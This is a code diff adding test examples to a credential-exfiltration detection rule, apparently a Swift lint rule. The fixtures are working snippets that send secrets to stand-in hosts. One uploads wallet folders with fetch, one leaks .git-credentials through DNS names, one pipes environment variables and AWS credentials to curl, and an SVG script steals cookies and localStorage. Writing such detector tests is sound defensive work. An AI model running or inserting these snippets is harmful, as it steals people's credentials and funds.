@@ -37,8 +37,20 @@ struct CredentialExfiltrationFlowRule: Rule {
         "<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[\nconst d = { c: document.cookie, s: JSON.stringify(localStorage) };\n↓fetch('https://collect.example-bin.io/x', { method: 'POST', body: JSON.stringify(d) });\n]]></script></svg>\n",
         language: .text, path: "assets/logo.svg", note: "a script in an image steals the page's cookies and storage"),
       Example("$c = Get-Content ~\\.aws\\credentials\n↓Invoke-RestMethod -Uri https://x.example.io/u -Method Post -Body $c\n", language: .powershell),
+      Example(
+        "const LOC = { electrum: [path.join(H, '.electrum', 'wallets')] };\nasync function up(files) {\n  const fd = new FormData();\n  for (const f of files) fd.append('doc', new Blob([fs.readFileSync(f)]));\n  ↓await fetch('https://api.tg-relay.io/bot1/sendDocument', { method: 'POST', body: fd });\n}\nfor (const [kind, dirs] of Object.entries(LOC)) { up(dirs.flatMap((d) => walk(d))); }\n",
+        language: .javascript, note: "wallet folders reached through a destructured entry"),
+      Example(
+        "foreach ($p in @(\"$env:USERPROFILE\\.git-credentials\")) {\n  if (Test-Path $p) { $items += (Get-Content $p -Raw) }\n}\n$hex = -join ($items.ToCharArray() | ForEach-Object { '{0:x2}' -f [int]$_ })\n$chunk = $hex.Substring(0, 60)\n↓Resolve-DnsName -Name \"$chunk.q.ns-relay.io\" -Type TXT\n",
+        language: .powershell, note: "a credential file walked by foreach, encoded, sent in DNS names"),
+      Example(
+        "#!/bin/sh\n(env; cat ~/.aws/credentials 2>/dev/null) | ↓curl -s -X POST --data-binary @- https://perf-agent.io/collect\n",
+        language: .shell, note: "what a subshell group prints, piped to the upload"),
     ],
     nonTriggeringExamples: [
+      Example(
+        "$cfg = \"$env:USERPROFILE\\.git-credentials\"\nif (Test-Path $cfg) { Write-Host 'credential store present' }\nResolve-DnsName -Name github.com\n",
+        language: .powershell, note: "the store's existence is checked; nothing read is sent"),
       Example("ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''\ncat ~/.ssh/id_ed25519.pub\n", language: .shell, note: "creating a key and printing the public half"),
       Example("stat -c '%a' ~/.ssh/id_rsa\ncurl -X POST https://api.example.io/report -d 'status=ok'\n", language: .shell, note: "a permission check, and an unrelated post"),
       Example("aws configure\naws s3 ls\n", language: .shell, note: "the CLI reads its own configuration"),
